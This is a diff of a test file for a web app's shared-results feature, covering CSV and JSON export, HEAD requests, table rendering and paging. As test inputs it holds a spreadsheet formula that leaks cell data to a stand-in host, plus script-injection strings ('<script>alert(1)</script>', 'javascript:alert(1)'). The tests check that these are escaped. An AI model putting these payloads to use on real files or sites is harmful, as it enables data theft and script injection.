@@ -98,13 +98,77 @@ describe('shared results', () => {
     const title = '=HYPERLINK("https://bad.example/?"&A2,"Open")'
     await completeTask(test.database.db, jobId, { position: 0, data: { title, price: -12.5 } })
     const { url } = await share(user, jobId)
-    for (const address of ['/results', '/results?format=csv', '/results?format=nonsense']) {
+    for (const address of ['/results', '/results?format=csv']) {
       const { body, headers } = await visit(url, address)
       expect(body.startsWith('\uFEFF')).toBe(true)
       expect(body).toContain(`"'${title.replaceAll('"', '""')}"`)
       expect(body).toMatch(/,-12\.5(?:,|\r|$)/)
       expect(headers['content-disposition']).toBe('attachment; filename="results-spreadsheet.csv"')
     }
+  })
+
+  it('come as JSON as exports do; a form that they do not come in is named as such', async () => {
+    const user = await test.signIn('starter')
+    const { url } = await share(user, await runJob(user))
+    const answer = await visit(url, '/results?format=json')
+    expect(answer.headers['content-disposition']).toBe('attachment; filename="results.json"')
+    const target_item_value = makeJobPayload().target_items[0]
+    expect(answer.json()).toEqual([{ target_item_value, data: { title: '<script>alert(1)</script>', price: 12.5 } }])
+    for (const format of ['nonsense', 'parquet', '']) {
+      const refused = await visit(url, `/results?format=${format}`)
+      expect([refused.statusCode, refused.json()]).toEqual([422, { detail: 'The format is one of csv, xlsx, json.' }])
+    }
+  })
+
+  it('answer what only looks whether they are there, without a text', async () => {
+    const user = await test.signIn('starter')
+    const { id, url } = await share(user, await runJob(user))
+    const look = async (more: string) => {
+      const answer = await test.app.inject({ method: 'HEAD', url: new URL(url).pathname + more })
+      return [more, answer.statusCode, answer.headers['content-type'], answer.body]
+    }
+    expect(await look('')).toEqual(['', 200, 'text/html; charset=utf-8', ''])
+    expect(await look('/results?format=json')).toEqual(['/results?format=json', 200, 'application/json; charset=utf-8', ''])
+    expect(await look('/report')).toEqual(['/report', 200, 'text/html; charset=utf-8', ''])
+    await user.call('DELETE', `/jobs/${(await user.call('GET', '/jobs/')).json().data[0].id}/shares/${id}`)
+    for (const more of ['', '/results', '/report']) expect((await look(more)).slice(0, 2)).toEqual([more, 404])
+  })
+
+  it('show numbers and addresses as a table does: points below each other, thousands apart, addresses as links', async () => {
+    const user = await test.signIn('starter')
+    const target_items = ['https://shop.example/a', 'https://shop.example/b', 'A name']
+    const { id: jobId } = (await user.call('POST', '/jobs/', makeJobPayload({ target_items }))).json()
+    const { db } = test.database
+    await completeTask(db, jobId, { position: 0, data: { title: 'https://shop.example/"b".png', price: 1234.5 } })
+    await completeTask(db, jobId, { position: 1, data: { title: 'javascript:alert(1)', price: 12 } })
+    await completeTask(db, jobId, { position: 2, data: { title: null, price: null } })
+    const { url } = await share(user, jobId)
+    const { body } = await visit(url)
+    expect(body).toContain('<th scope="col" class="number">price</th>')
+    expect(body).toContain('<td class="number"><div>1,234.5\u00A0<a class="source" href="https://one.example/1"')
+    expect(body).toContain('<td class="number"><div>12<span class="room" aria-hidden="true">.0</span>\u00A0<a')
+    expect(body).toContain('<td class="number"></td>')
+    expect(body).toContain('href="https://shop.example/a"')
+    expect(body).toContain('href="https://shop.example/&quot;b&quot;.png"')
+    expect(body).not.toContain('href="javascript')
+  })
+
+  it('that are many are turned over page by page, there and back', async () => {
+    const user = await test.signIn('pro')
+    const target_items = Array.from({ length: 201 }, (_, n) => `https://shop.example/${n}`)
+    const { id: jobId } = (await user.call('POST', '/jobs/', makeJobPayload({ target_items }))).json()
+    for (const position of target_items.keys())
+      await completeTask(test.database.db, jobId, { position, data: { title: `Thing ${position}.`, price: 1 } })
+    const { url } = await share(user, jobId)
+    const first = (await visit(url)).body
+    expect(first).toContain('Thing 199.')
+    expect(first).not.toContain('Thing 200.')
+    expect(first).not.toContain('First rows')
+    const more = /href="[^"]*(\?after=\d+)">More rows/.exec(first)?.[1]
+    const last = (await visit(url, more)).body
+    expect(last).toContain('Thing 200.')
+    expect(last).toContain(`<a href="${new URL(url).pathname}">First rows</a>`)
+    expect(last).not.toContain('More rows')
   })
 
   it('end by themselves after the days they were made for, for everybody and in the list', async () => {
